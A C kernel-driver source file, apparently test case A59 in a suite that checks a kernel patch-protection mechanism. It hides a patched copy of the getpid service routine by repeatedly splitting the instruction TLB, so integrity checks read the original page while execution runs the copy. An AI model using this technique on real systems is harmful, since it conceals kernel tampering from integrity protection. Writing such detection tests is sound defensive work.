/* attack_a59_tlb_split (A59): a TLB split of a kernel text page, kept up.
 * A split code/data view, set up again after every TLB flush. Copies the page holding the getpid
 * service routine into a page of its own with that routine replaced by
 * `mov eax, 4242; ret`; then, from a periodic timer on every tick and
 * with interrupts off, points the text page's PTE at the copy, calls the
 * routine once (the instruction TLB now maps the page to the copy) and
 * puts the PTE back without invalidating it. Reads of the page (the hash
 * of kernel text) and the PTE (the page-table check) see the original;
 * execution runs the copy until the next flush, and the next tick sets it
 * up again. Expected: 0x109 type 0x111 (the NMI watchdog's
 * instruction-fetch probe writes `mov eax, imm; ret` over a `ret` of the
 * page through its own frame and calls it: the copy answers instead). */
#include "attack_pg.h"

static struct ktimer beat;
static struct dpc beat_dpc;
static uint64_t *pte, orig, split, page, target;
static uint64_t splits;

static void resplit(struct dpc *d, void *ctx)
{
	uint64_t pf = a_cli();
	*pte = split;
	a_invlpg(page);
	((uint64_t(*)(void))target)(); /* the instruction TLB takes the copy */
	*pte = orig;                    /* reads walk to the original again */
	if (++splits == 10)
		printk("attack_a59: split set up 10 times\n");
	a_restore(pf);
}

status_t driver_entry(struct driver_object *drv)
{
	uint64_t *table = a_find_service_table();
	uint8_t *buf = pool_alloc(2 * A_PAGE, 0x74696C53);
	if (!table || !buf) {
		printk("attack_a59: service table not found, or no memory\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	target = table[KPP_SYS_GET_PID];
	page = target & ~(A_PAGE - 1);
	pte = a_pte_of(page, 0);
	uint8_t *copy = (uint8_t *)(((uint64_t)buf + A_PAGE - 1) & ~(A_PAGE - 1));
	if (!pte || (uint64_t)copy < KPP_DIRECT_MAP_BASE) {
		printk("attack_a59: no PTE for kernel text, or the copy is not in the direct map\n");
		return KPP_STATUS_UNSUCCESSFUL;
	}
	memcpy(copy, (const void *)page, A_PAGE);
	static const uint8_t fake[6] = {0xB8, 0x92, 0x10, 0x00, 0x00, 0xC3}; /* mov eax, 4242; ret */
	memcpy(copy + (target - page), fake, sizeof fake);
	orig = *pte;
	split = (orig & ~A_PTE_ADDR) | (((uint64_t)copy - KPP_DIRECT_MAP_BASE) & A_PTE_ADDR);
	dpc_init(&beat_dpc, resplit, NULL);
	timer_init(&beat, &beat_dpc);
	uint64_t pf = a_cli(); /* no pass between the patch and its report */
	resplit(NULL, NULL);
	timer_set(&beat, 10000000ull, 10000000ull);
	printk("attack_a59: getpid's text page split: execution runs a copy, reads and the PTE the original\n");
	a_patched("attack_a59");
	a_restore(pf);
	return KPP_STATUS_SUCCESS;
}
